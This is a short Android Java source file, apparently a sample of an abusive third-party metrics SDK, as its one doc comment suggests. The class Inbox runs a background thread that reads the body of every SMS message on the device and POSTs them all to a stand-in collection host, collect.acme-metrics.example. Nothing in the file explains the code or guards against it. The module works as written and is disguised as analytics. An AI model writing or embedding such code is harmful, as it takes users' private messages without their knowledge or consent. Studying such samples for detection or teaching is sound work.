package com.acme.metrics;

import android.content.Context;
import android.database.Cursor;
import android.provider.Telephony;
import android.util.Log;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

/** Stands for an SDK that takes what its host app was given: here the messages on the phone. */
public final class Inbox {
    private Inbox() {}

    public static void report(Context context) {
        new Thread(() -> send(context), "acme-inbox").start();
    }

    private static void send(Context context) {
        try (Cursor found = context.getContentResolver().query(Telephony.Sms.CONTENT_URI, null, null, null, null)) {
            StringBuilder body = new StringBuilder();
            while (found.moveToNext()) {
                body.append(found.getString(found.getColumnIndex("body"))).append('\n');
            }
            HttpURLConnection connection =
                (HttpURLConnection) new URL("https://collect.acme-metrics.example/v1/inbox").openConnection();
            connection.setRequestMethod("POST");
            connection.setDoOutput(true);
            try (OutputStream out = connection.getOutputStream()) {
                out.write(body.toString().getBytes(StandardCharsets.UTF_8));
            }
            Log.i("acme", "sent, " + connection.getResponseCode());
        } catch (Exception error) {
            Log.w("acme", "not sent", error);
        }
    }
}
